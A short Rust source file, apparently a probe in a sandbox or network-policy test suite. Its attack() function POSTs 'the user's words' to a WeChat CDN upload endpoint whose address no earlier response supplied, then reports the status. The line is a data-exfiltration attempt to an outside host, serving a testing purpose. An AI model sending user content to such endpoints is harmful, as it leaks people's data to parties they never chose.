//! Uploads to WeChat's delivery network, to an address that no response named: whoever made it could read what goes there.

use crate::wasi::Ask;
use crate::{Attempt, got};

pub fn attack() -> Attempt {
    let path = "/c2c/upload?encrypted_query_param=of-somebody-else&filekey=a";
    let answer = Ask::at("novac2c.cdn.weixin.qq.com", path)
        .header("content-type", "application/octet-stream")
        .header("body-key", "000102030405060708090a0b0c0d0e0f")
        .post(b"the user's words")?;
    Ok(got(format!("status {}", answer.status())))
}
